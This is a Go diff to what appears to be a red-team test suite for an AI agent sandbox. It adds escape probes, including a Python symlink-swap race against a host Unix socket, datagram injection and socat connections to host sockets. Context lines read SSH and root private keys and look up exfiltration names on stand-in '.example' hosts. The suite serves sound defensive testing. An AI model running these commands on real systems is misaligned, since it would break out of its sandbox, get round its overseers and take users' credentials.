@@ -43,6 +43,44 @@ var (
 		"inside": "network = open: the proxy variables pass as they are, by the admin's choice"}
 )
 
+// raceCommand binds a socket of its own, then swaps a link between it and
+// the host's socket while another thread connects through the link as fast
+// as it can: a check of the path and a connect by the path would differ.
+const raceCommand = `/usr/bin/python3 - <<'EOF' 2>&1
+import os, socket, tempfile, threading
+d = tempfile.mkdtemp()
+own, link, host = d + '/own.sock', d + '/race.sock', '/var/lib/claude-sandbox-rt-{{ID}}.sock'
+srv = socket.socket(socket.AF_UNIX); srv.bind(own); srv.listen(64)
+threading.Thread(target=lambda: [srv.accept()[0].close() for _ in iter(int, 1)], daemon=True).start()
+stop = []
+def swap():
+    i = 0
+    while not stop:
+        tmp = link + str(i % 2)
+        if os.path.lexists(tmp): os.unlink(tmp)
+        os.symlink(own if i % 2 else host, tmp); os.rename(tmp, link); i += 1
+threading.Thread(target=swap, daemon=True).start()
+seen = set()
+for _ in range(2000):
+    c = socket.socket(socket.AF_UNIX)
+    try:
+        c.connect(link); seen.add(c.recv(64).decode().strip() or 'own')
+    except OSError as e:
+        seen.add(e.strerror)
+    c.close()
+stop.append(1)
+print(sorted(seen))
+EOF`
+
+// datagramCommand sends /dev/log-style datagrams to the host's datagram
+// socket, from a new datagram socket and from one of a socket pair.
+const datagramCommand = `/usr/bin/python3 - <<'EOF' 2>&1
+import socket
+for s in (socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]):
+    try: s.sendto(b'PLANTED-DGRAM', '/var/lib/claude-sandbox-rt-{{ID}}.log')
+    except OSError as e: print(e)
+EOF`
+
 var redteamCases = []redteamCase{
 	{Name: "ssh-key", Category: "read secrets", Command: "cat ~/.ssh/id_* 2>&1", Markers: []string{"SECRET-USER-SSH", "SECRET-ROOT-SSH"}},
 	{Name: "root-home", Category: "read secrets", Command: "ls -la /root 2>&1; cat /root/.ssh/id_rsa 2>&1 || sudo -n cat /root/.ssh/id_rsa 2>&1", Markers: []string{"SECRET-ROOT-SSH"}},
@@ -64,6 +102,12 @@ var redteamCases = []redteamCase{
 	{Name: "workspace-socket", Category: "reach sockets", Command: "socat -u UNIX-CONNECT:$PWD/.agent.sock STDOUT 2>&1", Markers: []string{"SECRET-WORKSPACE-SOCKET"}},
 	{Name: "abstract-socket", Category: "reach sockets", Command: "socat -u ABSTRACT-CONNECT:claude-sandbox-rt-{{ID}} STDOUT 2>&1", Markers: []string{"SECRET-ABSTRACT-SOCKET"}},
 	{Name: "python-unix-socket", Category: "reach sockets", Command: "/usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('$PWD/.agent.sock'); print(s.recv(100))\" 2>&1", Markers: []string{"SECRET-WORKSPACE-SOCKET"}},
+	{Name: "late-workspace-socket", Category: "reach sockets", Command: "touch .late-trigger; for i in $(seq 50); do [ -S .late.sock ] && break; sleep 0.1; done; sleep 0.3; socat -t2 - UNIX-CONNECT:.late.sock 2>&1", Markers: []string{"SECRET-LATE-SOCKET"}},
+	{Name: "system-path-socket", Category: "reach sockets", Command: "socat -t2 - UNIX-CONNECT:/var/lib/claude-sandbox-rt-{{ID}}.sock 2>&1", Markers: []string{"SECRET-SYSTEM-SOCKET"}},
+	{Name: "symlink-socket", Category: "reach sockets", Command: "ln -sf /var/lib/claude-sandbox-rt-{{ID}}.sock .rt-link.sock 2>&1; socat -t2 - UNIX-CONNECT:.rt-link.sock 2>&1; rm -f .rt-link.sock", Markers: []string{"SECRET-SYSTEM-SOCKET"}},
+	{Name: "datagram-socket", Category: "reach sockets", Command: datagramCommand,
+		Host: `sleep 0.3; grep -qs PLANTED-DGRAM /tmp/claude-sandbox-rt-{{ID}}.dgram && echo ESCAPED`},
+	{Name: "socket-swap-race", Category: "reach sockets", Command: raceCommand, Markers: []string{"SECRET-SYSTEM-SOCKET"}},
 	{Name: "loopback-service", Category: "reach network", Command: "curl -s --max-time 3 http://127.0.0.1:{{PORT}}/secret.txt 2>&1; curl -s --max-time 3 -x \"$HTTP_PROXY\" http://localhost:{{PORT}}/secret.txt 2>&1", Markers: []string{"SECRET-LOOPBACK"}, ByDesign: openNetwork},
 	{Name: "dns-exfiltration", Category: "reach network", Command: "getent hosts exfil-{{ID}}-direct.example 2>&1; echo looked up", Host: `grep -qs exfil-{{ID}}-direct /tmp/claude-sandbox-rt-{{ID}}.dns && echo ESCAPED`, ByDesign: openNetwork},
 	{Name: "proxy-name-lookup", Category: "reach network", Command: "curl -s --max-time 5 -x \"$HTTP_PROXY\" http://exfil-{{ID}}-proxy.example/ 2>&1; echo asked", Host: `grep -qs exfil-{{ID}}-proxy /tmp/claude-sandbox-rt-{{ID}}.dns && echo ESCAPED`, ByDesign: openNetwork},
